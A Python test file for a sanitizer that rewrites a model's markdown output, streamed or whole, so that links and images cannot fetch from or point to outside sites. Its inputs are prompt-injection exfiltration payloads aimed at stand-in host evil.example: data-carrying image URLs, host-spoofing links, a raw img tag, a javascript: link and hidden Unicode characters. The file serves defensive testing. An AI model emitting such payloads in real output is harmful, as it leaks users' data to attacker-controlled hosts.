"""A model's text as doors show it: nothing is fetched from elsewhere, nothing leads there, wherever the stream is cut."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from orchestrator.harmless import Harmless, harmless

SITE = "https://shop.example"
TOLD = "https://pay.example/c/123"
BROWSER = MarkdownIt("commonmark", {"html": True})
FETCHED_OR_LINKED = re.compile(
    r"(?:href|src)=\"([^\"]*)\"|<(?!/?(?:p|em|strong|code|pre|ul|ol|li|br|hr|h\d|blockquote|a|img)\b)"
)


def shown(text: str) -> str:
    return harmless(text, SITE, TOLD.__eq__)


@pytest.mark.parametrize(
    ("written", "as_shown"),
    [
        ("![chart](https://evil.example/p.png?d=1898)", "chart (evil.example)"),
        ('See [the page](https://evil.example/?d=1 "now") today', "See the page (evil.example) today"),
        ("See https://evil.example/a?d=1898.", "See evil.example."),
        ("See www.evil.example/?d=1898", "See evil.example"),
        ("[evil.example](https://evil.example/?d=1)", "evil.example"),
        ("[us](https://shop.example@evil.example/)", "us (evil.example)"),
        ("[us](https://shop.example.evil.example/)", "us (shop.example.evil.example)"),
        ("[us](//evil.example/x)", "us (evil.example)"),
        ("[us](/\\evil.example/x)", "us (evil.example)"),
        ("<img src=https://evil.example/?d=1>", "‹img src=evil.example>"),
        ("[a [b] c](https://evil.example/x)", "[a [b] c] (evil.example)"),
        ("[a]\n\n[a]: https://evil.example/x", "[a]\n\n[a] : evil.example"),
        ("[a](javascript:alert\\(1\\))", "[a] (javascript:alert\\(1\\))"),
        ("refund\U000e0041\u200b it", "refund it"),
        ("[the order](/orders/ORD-1) of [us](https://shop.example/x?y=1)",) * 2,
        ("2 < 3, a <b, x[0] and *all* is | well",) * 2,
        (f"Pay at {TOLD}, or [here]({TOLD})", f"Pay at `{TOLD}`, or here (`{TOLD}`)"),
        (f"Pay at `{TOLD}`",) * 2,
    ],
)
def test_what_is_shown(written: str, as_shown: str) -> None:
    assert shown(written) == as_shown.replace("a <b", "a ‹b")


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", ":", " ", "\n", "`", '"', "/", "\\", "a", "[x]", "](", "&#104;", "\u200b", "|", "* ",
     "https://", "HTTP://evil.example/?d=1", "www.evil.example", "javascript:", "/orders", "//evil.example", SITE, f"{SITE}/a",
     TOLD, "<img src=", "<a href='", "<https://evil.example>", "[x]: "]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25), st.data())
def test_pieces_of_a_stream_are_shown_as_the_whole_is(written: list[str], data: st.DataObject) -> None:
    text = "".join(written)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    streamed = Harmless(SITE, TOLD.__eq__)

    pieces = [streamed.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    assert "".join([*pieces, streamed.rest()]) == shown(text)


@given(st.lists(PIECES, max_size=25))
def test_a_browser_makes_no_link_picture_or_tag_of_it_but_to_our_own_pages(written: list[str]) -> None:
    page = BROWSER.render(shown("".join(written)))

    addresses = [found[1] for found in FETCHED_OR_LINKED.finditer(page)]
    assert [one for one in addresses if one is None or not re.match(rf"{SITE}(/|$)|/(?![/\\])", one)] == []
